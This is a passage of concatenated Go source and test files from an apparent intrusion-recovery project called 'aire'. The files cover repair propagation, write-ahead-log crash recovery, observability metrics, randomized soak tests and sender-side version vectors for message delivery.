	cl := New("browser-3", tb.Bus)
	tb.MustCall("store", wire.NewRequest("POST", "/put").WithForm("key", "x", "val", "a"))
	atk := tb.MustCall("store", wire.NewRequest("POST", "/put").WithForm("key", "x", "val", "b"))
	if _, err := cl.Call("store", wire.NewRequest("GET", "/get").WithForm("key", "x")); err != nil {
		t.Fatal(err)
	}
	store.ApplyLocal(warp.Action{Kind: warp.CancelReq, ReqID: atk.Header[wire.HdrRequestID]})
	store.Flush()
	if _, err := cl.Poll("store"); err != nil {
		t.Fatal(err)
	}
	// The consumed token cannot be replayed by anyone.
	resp := tb.Call("store", wire.NewRequest("POST", "/aire/fetch_repair").WithForm("token", "store-tok-1"))
	if resp.Status != 404 {
		t.Fatalf("replayed token: %d", resp.Status)
	}
}
