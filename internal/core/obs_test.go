package core

import (
	"strings"
	"sync"
	"testing"

	"aire/internal/obs"
	"aire/internal/transport"
	"aire/internal/wire"
)

// headerTap wraps a Caller and records every Aire-* header key stamped on
// an outgoing carrier, across every path that sends one: live forwarded
// calls, repair carriers, replace_response notifies, and fetches.
type headerTap struct {
	inner   Caller
	mu      sync.Mutex
	headers map[string]bool
}

func (h *headerTap) Call(from, to string, req wire.Request) (wire.Response, error) {
	h.mu.Lock()
	for k := range req.Header {
		if strings.HasPrefix(k, "Aire-") {
			h.headers[k] = true
		}
	}
	h.mu.Unlock()
	return h.inner.Call(from, to, req)
}

// TestOutgoingHeadersRegistered guards the PR-2 bug class: an Aire header
// stamped on outgoing carriers but missing from wire.AireHeaders survives
// the in-memory bus yet silently vanishes over the HTTP adapter (the
// canonical-key mapping and dedup exclusion are both built from that
// list). Every header any delivery path stamps must be registered.
func TestOutgoingHeadersRegistered(t *testing.T) {
	bus := transport.NewBus()
	tap := &headerTap{inner: bus, headers: map[string]bool{}}
	a := NewController(&kvApp{name: "a", mirror: "b"}, tap, DefaultConfig())
	bus.Register("a", a)
	b := NewController(&kvApp{name: "b", upstream: "a"}, tap, DefaultConfig())
	bus.Register("b", b)

	// Live traffic: a mirrored put (a→b) and a fetch (b→a) so the repair
	// below cascades a repair carrier AND a replace_response notify.
	putResp, err := bus.Call("", "a", put("x", "v1"))
	if err != nil || !putResp.OK() {
		t.Fatalf("put: %v %v", err, putResp)
	}
	if resp, err := bus.Call("", "b", wire.NewRequest("POST", "/fetch").WithForm("key", "x")); err != nil || !resp.OK() {
		t.Fatalf("fetch: %v %v", err, resp)
	}

	// Replace the put on a: repairs a, cascades to b (repair carrier),
	// and changes a's /get response to b's fetch (replace_response).
	rep := wire.NewRequest("POST", "/aire/repair").WithHeader(
		wire.HdrRepair, "replace", wire.HdrRequestID, putResp.Header[wire.HdrRequestID])
	rep.Body = put("x", "v1-fixed").Encode()
	if resp, err := bus.Call("", "a", rep); err != nil || !resp.OK() {
		t.Fatalf("replace: %v %v", err, resp)
	}
	for i := 0; i < 50; i++ {
		moved := 0
		for _, c := range []*Controller{a, b} {
			d, _ := c.Flush()
			moved += d
		}
		if moved == 0 {
			break
		}
	}

	registered := map[string]bool{}
	for _, h := range wire.AireHeaders {
		registered[h] = true
	}
	tap.mu.Lock()
	defer tap.mu.Unlock()
	for h := range tap.headers {
		if !registered[h] {
			t.Errorf("outgoing header %s is not registered in wire.AireHeaders", h)
		}
	}
	// The trace headers must actually ride the carriers this test drove —
	// otherwise the guard above is vacuous for them.
	for _, h := range []string{wire.HdrTraceID, wire.HdrTraceHop} {
		if !tap.headers[h] {
			t.Errorf("expected %s on at least one outgoing carrier, saw %v", h, tap.headers)
		}
	}
}

// TestControllerMetricsAndWaveSpans exercises the instrumented repair
// plane end to end on the in-memory bus and checks both surfaces: the
// metric counters and the wave reconstructed purely from propagated
// trace context.
func TestControllerMetricsAndWaveSpans(t *testing.T) {
	reg := obs.New(obs.DefaultRingCap)
	cfg := DefaultConfig()
	cfg.Obs = reg
	tb := newTestbed()
	tb.add(&kvApp{name: "a", mirror: "b"}, cfg)
	tb.add(&kvApp{name: "b"}, cfg)

	putResp := tb.call("a", put("x", "v1"))
	rep := wire.NewRequest("POST", "/aire/repair").WithHeader(
		wire.HdrRepair, "replace", wire.HdrRequestID, putResp.Header[wire.HdrRequestID])
	rep.Body = put("x", "v1-fixed").Encode()
	if resp := tb.call("a", rep); !resp.OK() {
		t.Fatalf("replace: %d %s", resp.Status, resp.Body)
	}
	tb.settle(50)

	snap := reg.Snapshot()
	for _, name := range []string{
		"core.a.repairs_run", "core.a.msgs_queued", "core.a.msgs_delivered",
		"core.b.inbox_apply", "core.b.repairs_run", "core.b.inbox_commits",
	} {
		if snap.Counters[name] < 1 {
			t.Errorf("counter %s = %d, want >= 1\n%s", name, snap.Counters[name], snap)
		}
	}
	if h := snap.Histograms["core.a.deliver_ns"]; h.Count < 1 {
		t.Errorf("core.a.deliver_ns count = %d, want >= 1", h.Count)
	}

	waves := obs.Waves(reg.Ring().Spans())
	if len(waves) == 0 {
		t.Fatal("no waves reconstructed from span ring")
	}
	found := false
	for _, w := range waves {
		if w.Origin != "a" || w.MaxHop < 1 {
			continue
		}
		for _, hop := range w.Hops {
			if hop.Hop == 1 && hop.Msgs >= 1 {
				found = true
			}
		}
	}
	if !found {
		t.Fatalf("no wave with origin a reached hop 1 with a paired carrier: %+v", waves)
	}
}

// TestObsDisabledZeroAlloc is the gate's allocation ceiling: with no
// registry configured, every instrumentation site must degenerate to a
// nil check — zero allocations on the hot path.
func TestObsDisabledZeroAlloc(t *testing.T) {
	met := newCtrlMetrics(nil, "z")
	if met.reg != nil || met.ring != nil {
		t.Fatal("nil registry must resolve nil reg/ring")
	}
	allocs := testing.AllocsPerRun(1000, func() {
		met.requests.Inc()
		met.msgsQueued.Add(2)
		met.msgsDelivered.Inc()
		met.queueDepth.Set(7)
		met.deliverNS.ObserveNS(123)
		met.repairNS.ObserveNS(456)
		met.ring.Record(obs.Span{})
		if met.requests.Value() != 0 || met.queueDepth.Value() != 0 {
			t.Fatal("nil handles must read zero")
		}
	})
	if allocs != 0 {
		t.Fatalf("disabled instrumentation allocates %.1f allocs/op, want 0", allocs)
	}
}

// BenchmarkObsOverhead measures the pump hot path's instrumentation sites
// (queue counters, delivery latency, reconcile span) with the registry
// disabled vs enabled. The disabled path must report 0 allocs/op —
// asserted hard by TestObsDisabledZeroAlloc, visible here as B/op=0.
func BenchmarkObsOverhead(b *testing.B) {
	span := obs.Span{Wave: "w-1", Hop: 1, Service: "bench",
		Kind: obs.SpanReconcile, Subject: "d-1", Peer: "peer"}
	run := func(b *testing.B, reg *obs.Registry) {
		met := newCtrlMetrics(reg, "bench")
		b.ReportAllocs()
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			met.msgsQueued.Inc()
			met.queueDepth.Set(int64(i & 1023))
			met.deliverNS.ObserveNS(int64(i))
			met.msgsDelivered.Inc()
			if met.reg != nil {
				met.ring.Record(span)
			}
		}
	}
	b.Run("disabled", func(b *testing.B) { run(b, nil) })
	b.Run("enabled", func(b *testing.B) { run(b, obs.New(obs.DefaultRingCap)) })
}
