package harness

import (
	"fmt"
	"math/rand"
	"testing"

	"aire/internal/core"
	"aire/internal/vdb"
	"aire/internal/wire"
)

// soakOp is one step of the randomized system test.
type soakOp struct {
	kind    int // 0..2 traffic, 3 toggle-b, 4 cancel-random-put, 5 settle
	key     int
	val     int
	victim  int // which earlier put to cancel
	offline bool
}

// TestSoakRandomizedSystem interleaves traffic, repairs, and outages on a
// mirrored pair, then verifies against a golden world that ran the same
// schedule without the cancelled requests. This is the §3.3 convergence
// argument under realistic noise: repairs initiated while the peer is down,
// repairs of repairs, and traffic continuing throughout.
func TestSoakRandomizedSystem(t *testing.T) {
	for trial := 0; trial < 8; trial++ {
		seed := int64(1000 + trial)
		rng := rand.New(rand.NewSource(seed))
		n := 40 + rng.Intn(60)
		ops := make([]soakOp, n)
		for i := range ops {
			ops[i] = soakOp{
				kind:    rng.Intn(6),
				key:     rng.Intn(6),
				val:     rng.Intn(1000),
				victim:  rng.Intn(n),
				offline: rng.Intn(2) == 0,
			}
		}
		runSoak(t, seed, ops)
	}
}

// runSoak replays one seeded schedule; every failure names the seed so a
// CI flake is reproducible verbatim.
func runSoak(t *testing.T, seed int64, ops []soakOp) {
	t.Helper()
	build := func() (*Testbed, *core.Controller, *core.Controller) {
		tb := NewTestbed()
		a := tb.Add(&KVApp{ServiceName: "a", Mirror: "b"}, core.DefaultConfig())
		b := tb.Add(&KVApp{ServiceName: "b"}, core.DefaultConfig())
		tb.FreezeTime(1_380_000_000)
		return tb, a, b
	}

	// Pass 1: the attacked world, recording put request IDs and the set of
	// cancelled op indices.
	tb1, a1, b1 := build()
	putIDs := map[int]string{}
	cancelled := map[int]bool{}
	for i, op := range ops {
		switch op.kind {
		case 0, 1: // put (twice as likely as get)
			resp := tb1.Call("a", wire.NewRequest("POST", "/put").
				WithForm("key", fmt.Sprintf("k%d", op.key), "val", fmt.Sprint(op.val)))
			if resp.OK() {
				putIDs[i] = resp.Header[wire.HdrRequestID]
			}
		case 2:
			tb1.Call("a", wire.NewRequest("GET", "/sum"))
		case 3:
			tb1.SetOffline("b", op.offline)
		case 4:
			// Cancel a random earlier (not-yet-cancelled) put.
			for j := op.victim % len(ops); j >= 0; j-- {
				if id, ok := putIDs[j]; ok && !cancelled[j] {
					if _, err := a1.ApplyLocal(cancelAction(id)); err != nil {
						t.Fatalf("seed %d: cancel: %v", seed, err)
					}
					cancelled[j] = true
					break
				}
			}
		case 5:
			tb1.Settle(3)
		}
	}
	// Quiesce: bring b online, revive messages that were parked during the
	// outage (the administrator's Retry workflow, §7.2), drain everything.
	tb1.SetOffline("b", false)
	for _, ctrl := range []*core.Controller{a1, b1} {
		for _, p := range ctrl.Pending() {
			if p.Held {
				if err := ctrl.Retry(p.MsgID, nil); err != nil {
					t.Fatalf("seed %d: retry: %v", seed, err)
				}
			}
		}
	}
	tb1.Settle(50)
	if q := tb1.QueuedMessages(); q != 0 {
		t.Fatalf("seed %d: %d repair messages stuck after settle", seed, q)
	}

	// Pass 2: the golden world — same schedule (including outages, which
	// shape what reached b) minus the cancelled puts.
	tb2, _, b2 := build()
	for i, op := range ops {
		switch op.kind {
		case 0, 1:
			if cancelled[i] {
				continue
			}
			tb2.Call("a", wire.NewRequest("POST", "/put").
				WithForm("key", fmt.Sprintf("k%d", op.key), "val", fmt.Sprint(op.val)))
		case 2:
			tb2.Call("a", wire.NewRequest("GET", "/sum"))
		case 3:
			tb2.SetOffline("b", op.offline)
		}
	}
	tb2.SetOffline("b", false)

	// The repaired world's service-a state must equal golden exactly.
	gotA, wantA := soakState(a1.Svc.Store), soakState(tb2.Ctrls["a"].Svc.Store)
	_ = tb2
	if gotA != wantA {
		t.Fatalf("seed %d: service a diverged\nrepaired: %s\ngolden:   %s\ncancelled=%v", seed, gotA, wantA, cancelled)
	}
	// Service b: every cancelled value must be gone. (Exact equality with
	// golden does not hold for b: mirrored writes dropped during an outage
	// are not replayed by repair — Aire undoes effects, it does not deliver
	// missed traffic.)
	gotB := soakState(b1.Svc.Store)
	for i := range cancelled {
		if !cancelled[i] {
			continue
		}
		bad := fmt.Sprint(ops[i].val)
		if containsValue(b1.Svc.Store, bad) && !containsValue(b2.Svc.Store, bad) {
			t.Fatalf("seed %d: cancelled value %q survives on b: %s", seed, bad, gotB)
		}
	}
}

func soakState(s *vdb.Store) string {
	out := ""
	for _, id := range s.IDs("kv") {
		v, _ := s.Get(vdb.Key{Model: "kv", ID: id})
		out += id + "=" + v.Fields["val"] + ";"
	}
	return out
}

func containsValue(s *vdb.Store, val string) bool {
	for _, id := range s.IDs("kv") {
		v, _ := s.Get(vdb.Key{Model: "kv", ID: id})
		if v.Fields["val"] == val {
			return true
		}
	}
	return false
}
