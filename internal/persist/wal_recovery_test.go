package persist_test

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"sync"
	"testing"
	"time"

	"aire/internal/core"
	"aire/internal/harness"
	"aire/internal/persist"
	"aire/internal/transport"
	"aire/internal/wal"
	"aire/internal/warp"
	"aire/internal/wire"
)

// snapJSON serializes a controller's captured state for equality checks.
func snapJSON(t *testing.T, c *core.Controller) []byte {
	t.Helper()
	data, err := json.Marshal(persist.Capture(c))
	if err != nil {
		t.Fatal(err)
	}
	return data
}

// TestWALRecoveryEqualsLiveState runs a workload against a WAL-attached
// controller, simulates a process crash (close without checkpoint), and
// recovers a fresh controller purely from the WAL: the recovered state must
// equal the pre-crash capture byte for byte, including the outgoing queue
// and the repair log.
func TestWALRecoveryEqualsLiveState(t *testing.T) {
	dir := t.TempDir()
	bus := transport.NewBus()
	a := core.NewController(&harness.KVApp{ServiceName: "a", Mirror: "b"}, bus, core.DefaultConfig())
	bus.Register("a", a)
	b := core.NewController(&harness.KVApp{ServiceName: "b"}, bus, core.DefaultConfig())
	bus.Register("b", b)

	w, err := persist.Recover(a, dir, wal.Options{Policy: wal.FsyncEveryCommit})
	if err != nil {
		t.Fatal(err)
	}

	mustCall := func(svc string, req wire.Request) wire.Response {
		t.Helper()
		resp, err := bus.Call("", svc, req)
		if err != nil || !resp.OK() {
			t.Fatalf("%s %s: %v %+v", req.Method, req.Path, err, resp)
		}
		return resp
	}
	mustCall("a", wire.NewRequest("POST", "/put").WithForm("key", "x", "val", "good"))
	attack := mustCall("a", wire.NewRequest("POST", "/put").WithForm("key", "x", "val", "evil"))
	mustCall("a", wire.NewRequest("POST", "/put").WithForm("key", "y", "val", "other"))

	// Repair while b is offline: the repair-plane message stays queued, so
	// the WAL must carry the queue through the crash too.
	bus.SetOffline("b", true)
	if _, err := a.ApplyLocal(warp.Action{Kind: warp.CancelReq, ReqID: attack.Header[wire.HdrRequestID]}); err != nil {
		t.Fatal(err)
	}
	if a.QueueLen() == 0 {
		t.Fatal("expected a queued repair message")
	}

	before := snapJSON(t, a)
	preSeq := w.Seq()
	if preSeq == 0 {
		t.Fatal("workload appended no WAL entries")
	}
	if err := w.Close(); err != nil { // process crash, no power loss
		t.Fatal(err)
	}
	if err := a.WALError(); err != nil {
		t.Fatal(err)
	}

	a2 := core.NewController(&harness.KVApp{ServiceName: "a", Mirror: "b"}, bus, core.DefaultConfig())
	w2, err := persist.Recover(a2, dir, wal.Options{Policy: wal.FsyncEveryCommit})
	if err != nil {
		t.Fatal(err)
	}
	defer w2.Close()
	if got := w2.Seq(); got != preSeq {
		t.Fatalf("recovered WAL resumes at seq %d, want %d", got, preSeq)
	}
	if after := snapJSON(t, a2); !bytes.Equal(before, after) {
		t.Fatalf("recovered state differs from pre-crash capture:\n before: %s\n after:  %s", before, after)
	}

	// The recovered controller keeps logging: a new mutation appends.
	bus.Register("a", a2)
	mustCall("a", wire.NewRequest("POST", "/put").WithForm("key", "z", "val", "post"))
	if got := w2.Seq(); got <= preSeq {
		t.Fatalf("post-recovery mutation did not append: seq %d, want > %d", got, preSeq)
	}
}

// TestCheckpointTruncateAndRecover exercises the checkpoint protocol across
// two crash-recover generations: checkpoint, keep mutating, crash, recover
// (snapshot + WAL tail), mutate again, checkpoint again, crash again,
// recover again. Each recovery must reproduce the pre-crash capture, old
// segments and superseded checkpoints must be deleted, and sequence numbers
// must stay continuous across the truncated prefix.
func TestCheckpointTruncateAndRecover(t *testing.T) {
	dir := t.TempDir()
	// Tiny segments so checkpoints actually truncate files.
	opts := wal.Options{Policy: wal.FsyncEveryCommit, SegmentBytes: 512}
	bus := transport.NewBus()
	newA := func() *core.Controller {
		c := core.NewController(&harness.KVApp{ServiceName: "a"}, bus, core.DefaultConfig())
		bus.Register("a", c)
		return c
	}
	put := func(key, val string) {
		t.Helper()
		resp, err := bus.Call("", "a", wire.NewRequest("POST", "/put").WithForm("key", key, "val", val))
		if err != nil || !resp.OK() {
			t.Fatalf("put %s: %v %+v", key, err, resp)
		}
	}

	a := newA()
	w, err := persist.Recover(a, dir, opts)
	if err != nil {
		t.Fatal(err)
	}
	for _, kv := range [][2]string{{"a", "1"}, {"b", "2"}, {"c", "3"}, {"d", "4"}} {
		put(kv[0], kv[1])
	}
	upTo, err := persist.CheckpointAndTruncate(a, w, dir)
	if err != nil {
		t.Fatal(err)
	}
	if upTo == 0 {
		t.Fatal("checkpoint covered nothing")
	}
	put("e", "5")
	put("a", "1b")
	golden := snapJSON(t, a)
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}

	// Generation 2: snapshot + WAL tail.
	a2 := newA()
	w2, err := persist.Recover(a2, dir, opts)
	if err != nil {
		t.Fatal(err)
	}
	if got := snapJSON(t, a2); !bytes.Equal(golden, got) {
		t.Fatalf("gen-2 recovery differs:\n golden: %s\n got:    %s", golden, got)
	}
	put("f", "6")
	if _, err := persist.CheckpointAndTruncate(a2, w2, dir); err != nil {
		t.Fatal(err)
	}
	put("g", "7")
	golden2 := snapJSON(t, a2)
	if err := w2.Close(); err != nil {
		t.Fatal(err)
	}

	// Generation 3.
	a3 := newA()
	w3, err := persist.Recover(a3, dir, opts)
	if err != nil {
		t.Fatal(err)
	}
	defer w3.Close()
	if got := snapJSON(t, a3); !bytes.Equal(golden2, got) {
		t.Fatalf("gen-3 recovery differs:\n golden: %s\n got:    %s", golden2, got)
	}
	segs, err := wal.Segments(dir)
	if err != nil {
		t.Fatal(err)
	}
	var first uint64
	if _, err := fmt.Sscanf(segs[0], "wal-%d.seg", &first); err != nil {
		t.Fatalf("unparseable segment name %q: %v", segs[0], err)
	}
	if first == 1 {
		t.Fatalf("checkpoints never truncated the WAL: segments %v", segs)
	}
}

// blockingRepairHandler parks every repair-plane delivery on a channel so a
// test can hold a pump delivery in flight at a precise moment.
type blockingRepairHandler struct {
	inner   transport.Handler
	entered chan struct{}
	release chan struct{}
	once    sync.Once

	mu    sync.Mutex
	calls int
}

func (h *blockingRepairHandler) HandleWire(from string, req wire.Request) wire.Response {
	if req.Path == "/aire/repair" {
		h.mu.Lock()
		h.calls++
		h.mu.Unlock()
		h.once.Do(func() { close(h.entered) })
		<-h.release
	}
	return h.inner.HandleWire(from, req)
}

func (h *blockingRepairHandler) count() int {
	h.mu.Lock()
	defer h.mu.Unlock()
	return h.calls
}

// TestCaptureDuringClaim is the regression test for Capture's quiescence
// bug: a snapshot taken while the background pump holds a claimed message
// mid-delivery must still contain that message (the claim is an in-memory
// lease, not a dequeue), must not deadlock against the pump, and restoring
// the snapshot must not double-apply the repair — the peer's dedup inbox
// re-acknowledges the redelivery.
func TestCaptureDuringClaim(t *testing.T) {
	bus := transport.NewBus()
	a := core.NewController(&harness.KVApp{ServiceName: "a", Mirror: "b"}, bus, core.DefaultConfig())
	bus.Register("a", a)
	b := core.NewController(&harness.KVApp{ServiceName: "b"}, bus, core.DefaultConfig())
	blocker := &blockingRepairHandler{inner: b, entered: make(chan struct{}), release: make(chan struct{})}
	bus.Register("b", blocker)

	mustCall := func(svc string, req wire.Request) wire.Response {
		t.Helper()
		resp, err := bus.Call("", svc, req)
		if err != nil || !resp.OK() {
			t.Fatalf("%s %s: %v %+v", req.Method, req.Path, err, resp)
		}
		return resp
	}
	mustCall("a", wire.NewRequest("POST", "/put").WithForm("key", "x", "val", "good"))
	attack := mustCall("a", wire.NewRequest("POST", "/put").WithForm("key", "x", "val", "evil"))

	if err := a.StartPump(context.Background()); err != nil {
		t.Fatal(err)
	}
	defer a.StopPump()
	if _, err := a.ApplyLocal(warp.Action{Kind: warp.CancelReq, ReqID: attack.Header[wire.HdrRequestID]}); err != nil {
		t.Fatal(err)
	}

	// The pump has claimed the repair message and is parked inside the
	// peer's handler: the claim is live, the reconcile has not happened.
	select {
	case <-blocker.entered:
	case <-time.After(5 * time.Second):
		t.Fatal("pump never attempted delivery")
	}
	snap := persist.Capture(a)
	if len(snap.Queue) != 1 {
		t.Fatalf("capture during claim lost the in-flight message: queue = %d, want 1", len(snap.Queue))
	}
	close(blocker.release)
	if !a.WaitQueueEmpty(5 * time.Second) {
		t.Fatalf("delivery never reconciled: %d left", a.QueueLen())
	}

	// Restore the mid-claim snapshot: the message is redelivered (it was
	// queued at capture time) and the peer dedups the second copy.
	a2 := core.NewController(&harness.KVApp{ServiceName: "a", Mirror: "b"}, bus, core.DefaultConfig())
	bus.Register("a", a2)
	if err := persist.Apply(a2, snap); err != nil {
		t.Fatal(err)
	}
	if err := a2.StartPump(context.Background()); err != nil {
		t.Fatal(err)
	}
	defer a2.StopPump()
	if !a2.WaitQueueEmpty(5 * time.Second) {
		t.Fatalf("restored pump did not deliver: %d left", a2.QueueLen())
	}
	if got := blocker.count(); got != 2 {
		t.Fatalf("peer saw %d repair deliveries, want 2 (original + restored redelivery)", got)
	}
	if got := b.Stats().DupDeliveries; got != 1 {
		t.Fatalf("peer dedup re-acknowledged %d deliveries, want 1", got)
	}
	if got := string(mustCall("b", wire.NewRequest("GET", "/get").WithForm("key", "x")).Body); got != "good" {
		t.Fatalf("b after repair = %q, want %q", got, "good")
	}
}

// TestWALRecoveryBatchIncoming crashes a batch-incoming receiver between
// accepting a repair delivery and applying it: recovery must restore the
// accepted-but-unapplied action (and its dedup reservation) from the WAL,
// and ProcessIncoming must then apply it exactly once.
func TestWALRecoveryBatchIncoming(t *testing.T) {
	dir := t.TempDir()
	bus := transport.NewBus()
	a := core.NewController(&harness.KVApp{ServiceName: "a", Mirror: "b"}, bus, core.DefaultConfig())
	bus.Register("a", a)

	bcfg := core.DefaultConfig()
	bcfg.BatchIncoming = true
	b := core.NewController(&harness.KVApp{ServiceName: "b"}, bus, bcfg)
	bus.Register("b", b)
	w, err := persist.Recover(b, dir, wal.Options{Policy: wal.FsyncEveryCommit})
	if err != nil {
		t.Fatal(err)
	}

	mustCall := func(svc string, req wire.Request) wire.Response {
		t.Helper()
		resp, err := bus.Call("", svc, req)
		if err != nil || !resp.OK() {
			t.Fatalf("%s %s: %v %+v", req.Method, req.Path, err, resp)
		}
		return resp
	}
	mustCall("a", wire.NewRequest("POST", "/put").WithForm("key", "x", "val", "good"))
	attack := mustCall("a", wire.NewRequest("POST", "/put").WithForm("key", "x", "val", "evil"))
	if _, err := a.ApplyLocal(warp.Action{Kind: warp.CancelReq, ReqID: attack.Header[wire.HdrRequestID]}); err != nil {
		t.Fatal(err)
	}
	a.Flush()
	if got := b.InboxLen(); got == 0 {
		t.Fatal("repair delivery was not accepted into b's incoming batch")
	}
	if got := string(mustCall("b", wire.NewRequest("GET", "/get").WithForm("key", "x")).Body); got != "evil" {
		t.Fatalf("batched action applied early: x = %q", got)
	}

	// Crash before ProcessIncoming.
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	b2 := core.NewController(&harness.KVApp{ServiceName: "b"}, bus, bcfg)
	w2, err := persist.Recover(b2, dir, wal.Options{Policy: wal.FsyncEveryCommit})
	if err != nil {
		t.Fatal(err)
	}
	defer w2.Close()
	bus.Register("b", b2)
	if got := b2.InboxLen(); got != 1 {
		t.Fatalf("recovered incoming batch = %d actions, want 1", got)
	}
	if _, err := b2.ProcessIncoming(); err != nil {
		t.Fatal(err)
	}
	if got := string(mustCall("b", wire.NewRequest("GET", "/get").WithForm("key", "x")).Body); got != "good" {
		t.Fatalf("b after recovered batch apply = %q, want %q", got, "good")
	}
	// The batch-drain and in-commit landed in the WAL: a second recovery
	// must see the inbox empty and the repair applied.
	if err := w2.Close(); err != nil {
		t.Fatal(err)
	}
	b3 := core.NewController(&harness.KVApp{ServiceName: "b"}, bus, bcfg)
	w3, err := persist.Recover(b3, dir, wal.Options{Policy: wal.FsyncEveryCommit})
	if err != nil {
		t.Fatal(err)
	}
	defer w3.Close()
	bus.Register("b", b3)
	if got := b3.InboxLen(); got != 0 {
		t.Fatalf("re-recovered incoming batch = %d actions, want 0 (already drained)", got)
	}
	if got := string(mustCall("b", wire.NewRequest("GET", "/get").WithForm("key", "x")).Body); got != "good" {
		t.Fatalf("b after second recovery = %q, want %q", got, "good")
	}
}
