package harness

import (
	"fmt"

	"aire/internal/core"
	"aire/internal/orm"
	"aire/internal/web"
	"aire/internal/wire"
)

// s3App is the Amazon-S3 stand-in of Figure 2: a simple PUT/GET object
// store with last-writer-wins semantics.
type s3App struct{ name string }

func (a *s3App) Name() string                        { return a.name }
func (a *s3App) Authorize(ac core.AuthzRequest) bool { return true }

func (a *s3App) Register(svc *web.Service) {
	svc.Schema.Register("object")
	svc.Router.Handle("POST", "/put", func(c *web.Ctx) wire.Response {
		if err := c.DB.Put("object", c.Form("key"), orm.Fields("val", c.Form("val"))); err != nil {
			return c.Error(500, err.Error())
		}
		return c.OK("ok")
	})
	svc.Router.Handle("GET", "/get", func(c *web.Ctx) wire.Response {
		o, ok := c.DB.Get("object", c.Form("key"))
		if !ok {
			return c.Error(404, "no such object")
		}
		return c.OK(o.Get("val"))
	})
}

// s3Client is client A of Figure 2: each /observe call reads object x from
// the S3 service and appends what it saw to a local observation list.
type s3Client struct {
	name     string
	upstream string
}

func (a *s3Client) Name() string                        { return a.name }
func (a *s3Client) Authorize(ac core.AuthzRequest) bool { return true }

func (a *s3Client) Register(svc *web.Service) {
	svc.Schema.Register("obs")
	svc.Router.Handle("POST", "/observe", func(c *web.Ctx) wire.Response {
		resp := c.Call(a.upstream, wire.NewRequest("GET", "/get").WithForm("key", c.Form("key")))
		obsID := c.NewID()
		if err := c.DB.Put("obs", obsID, orm.Fields(
			"key", c.Form("key"), "val", string(resp.Body), "status", fmt.Sprint(resp.Status))); err != nil {
			return c.Error(500, err.Error())
		}
		return c.OK(string(resp.Body))
	})
}
