package core

import (
	"sort"
	"strconv"
	"time"

	"aire/internal/deliver"
	"aire/internal/obs"
	"aire/internal/wire"
)

// This file is the sender side of the anti-entropy version-vector layer
// (Config.VersionVectors; the receive side lives in deliver.Inbox's
// vector mode). Every delivery ID the controller mints carries a sequence
// from the service's shared monotonic counter ("svc-dlv-N"), so for each
// destination peer the controller can announce, on every stamped carrier:
//
//   - Aire-Acked-Seq: the highest sequence S such that every delivery this
//     service ever addressed to the peer with sequence <= S has been
//     resolved (acknowledged, gone, or dropped). Sequences are sparse per
//     peer — other peers consume counter values in between — but that is
//     exactly what makes the announcement cheap: the acked prefix is
//     min(outstanding)-1, or the frontier when nothing is outstanding.
//   - Aire-Frontier-Seq: the highest sequence ever addressed to the peer.
//
// The receiver compacts dedup-inbox entries at or below the acked prefix
// (they can never be asked about again) and classifies post-eviction
// arrivals exactly; it detects gaps — a wholly-lost delivery none of whose
// retries ever arrived — against the announced vector and answers with
// Aire-Nack-Seq on the response. A NACK makes the sender clear the peer's
// backoff window and stamp Aire-Reoffer on subsequent attempts: the
// anti-entropy path that recovers a lost delivery without waiting out the
// exponential backoff horizon.
//
// Sender vectors are derived state: outstanding sequences mirror the
// outgoing queue exactly (issued when a delivery ID enters the queue,
// resolved when its message permanently leaves), and the delivery counter
// is persisted, so crash-recovery rebuilds them from the replayed queue —
// no sender-side WAL op is needed, and a freshly minted sequence always
// announces an acked prefix covering everything resolved before the crash.
// Receiver vectors ARE persisted (deliver.OriginDump acked/frontier plus
// the in-vv WAL op) so compaction never forgets an unacked delivery.

// peerVector is the sender's vector state for one destination peer.
// Guarded by qmu, like the queue it mirrors.
type peerVector struct {
	// out holds the sequences of queued (unresolved) deliveries to the peer.
	out map[uint64]bool
	// frontier is the highest sequence ever issued to the peer.
	frontier uint64
	// reoffer is set when the peer NACKed a gap and cleared once a batch to
	// the peer reconciles fully healthy; while set, stamped carriers carry
	// wire.HdrReoffer so the transport fabric (and the simulator's lostwave
	// fault class) treats them as anti-entropy recovery traffic.
	reoffer bool
}

// vvIssueLocked records a delivery ID entering the queue bound for peer.
// Idempotent (out is a set), so WAL replay's q-set upserts are safe.
// Caller holds qmu.
func (c *Controller) vvIssueLocked(peer, deliveryID string) {
	if c.vectors == nil {
		return
	}
	seq := deliver.Seq(deliveryID)
	if seq == 0 {
		return
	}
	pv := c.vectors[peer]
	if pv == nil {
		pv = &peerVector{out: map[uint64]bool{}}
		c.vectors[peer] = pv
	}
	pv.out[seq] = true
	if seq > pv.frontier {
		pv.frontier = seq
	}
}

// vvResolveLocked records a delivery permanently leaving the queue
// (delivered, gone, or dropped), advancing the peer's acked prefix.
// Caller holds qmu.
func (c *Controller) vvResolveLocked(peer, deliveryID string) {
	if c.vectors == nil {
		return
	}
	seq := deliver.Seq(deliveryID)
	if seq == 0 {
		return
	}
	if pv := c.vectors[peer]; pv != nil {
		delete(pv.out, seq)
	}
}

// vvAnnouncement computes the (acked, frontier, reoffer) triple to stamp on
// a carrier bound for peer. ok is false when nothing was ever issued to the
// peer — the carrier then announces nothing, so a receiver never sees a
// zero vector it might misread as "everything below my sequence is acked".
//
// Re-offer stamping has two triggers. The fast one is a peer NACK
// (pv.reoffer): the receiver proved it is missing a delivery, so the very
// next attempt is marked recovery traffic. The slow one is the sender's own
// backoff horizon: once the peer's consecutive transport failures cross
// MaxAttempts, every carrier is stamped a re-offer unilaterally — the
// sender cannot distinguish an unreachable peer from a transport silently
// discarding this delivery's every retry, and a lost delivery at the head
// of the per-peer FIFO blocks the later carriers whose announcements would
// have revealed its gap, so no NACK can arrive to trigger the fast path.
func (c *Controller) vvAnnouncement(peer string) (acked, frontier uint64, reoffer, ok bool) {
	if c.vectors == nil {
		return 0, 0, false, false
	}
	c.qmu.Lock()
	defer c.qmu.Unlock()
	pv := c.vectors[peer]
	if pv == nil || pv.frontier == 0 {
		return 0, 0, false, false
	}
	acked = pv.frontier
	for seq := range pv.out {
		if seq <= acked {
			acked = seq - 1
		}
	}
	reoffer = pv.reoffer
	if !reoffer {
		if ps := c.peers[peer]; ps != nil && ps.failures >= c.Cfg.MaxAttempts {
			reoffer = true
		}
	}
	return acked, pv.frontier, reoffer, true
}

// vvNackLocked reacts to a peer's gap NACK: the peer proved it is alive
// and missing a delivery, so waiting out the backoff window would only
